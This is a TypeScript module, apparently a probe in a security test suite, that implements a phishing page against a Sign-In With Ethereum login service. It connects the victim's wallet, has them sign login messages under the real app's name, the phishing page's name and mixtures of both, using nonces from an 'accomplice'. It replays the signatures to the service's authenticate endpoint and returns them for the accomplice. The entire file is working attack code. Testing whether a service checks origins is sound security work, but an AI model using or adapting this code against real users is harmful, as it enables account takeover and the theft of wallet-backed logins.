/** Responses to the phishing page's attempts, by name: status and code, or a block by the browser. */
export type PhishingResults = Record<string, { status: number; code: string | null } | { blocked: true }>;

interface Provider {
  request(args: { method: string; params: unknown[] }): Promise<unknown>;
}

interface Prey {
  readonly serviceUrl: string;
  readonly appId: string;
  /** Origin of the app that the victim wants to log in to. */
  readonly realOrigin: string;
  /** The victim's address with its checksum, as a message must name it. */
  readonly address: string;
  /**
   * Nonces for the victim's address, one for each message. An accomplice got them from the service outside any browser,
   * with the app's `Origin`.
   */
  readonly nonces: readonly string[];
}

/**
 * Acts as a phishing page that looks like the app but is on another origin. Its visitor connects their wallet and
 * signs whatever it shows: messages under the page's own name, the app's name, and mixtures of both, each with a nonce
 * of the accomplice.
 *
 * Runs in that page.
 */
export async function phish({ serviceUrl, appId, realOrigin, address, nonces }: Prey): Promise<{
  loot: PhishingResults;
  /** Every message that the victim signed, by the names in it, for the accomplice. */
  signed: { name: string; message: string; signature: string }[];
}> {
  const provider = await new Promise<Provider>((resolve) => {
    window.addEventListener('eip6963:announceProvider', (event) =>
      resolve((event as CustomEvent<{ provider: Provider }>).detail.provider),
    );
    window.dispatchEvent(new Event('eip6963:requestProvider'));
  });
  const [account] = (await provider.request({ method: 'eth_requestAccounts', params: [] })) as string[];
  const real = new URL(realOrigin);
  const loot: PhishingResults = {};
  const signed: { name: string; message: string; signature: string }[] = [];

  async function request(path: string, body: unknown): Promise<Response | null> {
    const headers = { 'content-type': 'application/json', 'privy-app-id': appId };
    return fetch(`${serviceUrl}${path}`, { method: 'POST', headers, body: JSON.stringify(body) }).catch(
      () => null,
    );
  }
  async function tell(name: string, answer: Response | null): Promise<void> {
    const body = (await answer?.json().catch(() => null)) as { code?: string } | null | undefined;
    loot[name] = answer ? { status: answer.status, code: body?.code ?? null } : { blocked: true };
  }

  await tell('a nonce', await request('/api/v1/siwe/init', { address: account }));
  const names: [name: string, domain: string, uri: string][] = [
    ['the page’s own name', location.host, location.origin],
    ['the app’s name', real.host, real.origin],
    ['the app’s name and the page’s address', real.host, location.origin],
    ['the page’s name and the app’s address', location.host, real.origin],
  ];
  for (const [at, [name, domain, uri]] of names.entries()) {
    const message = [
      `${domain} wants you to sign in with your Ethereum account:\n${address}`,
      'By signing, you are proving you own this wallet and logging in.',
      `URI: ${uri}\nVersion: 1\nChain ID: 1\nNonce: ${nonces[at]}\nIssued At: ${new Date().toISOString()}`,
    ].join('\n\n');
    const signature = (await provider.request({
      method: 'personal_sign',
      params: [message, account],
    })) as string;
    signed.push({ name, message, signature });
    const body = { message, signature, chainId: 'eip155:1', walletClientType: null, connectorType: null };
    await tell(name, await request('/api/v1/siwe/authenticate', body));
  }
  return { loot, signed };
}
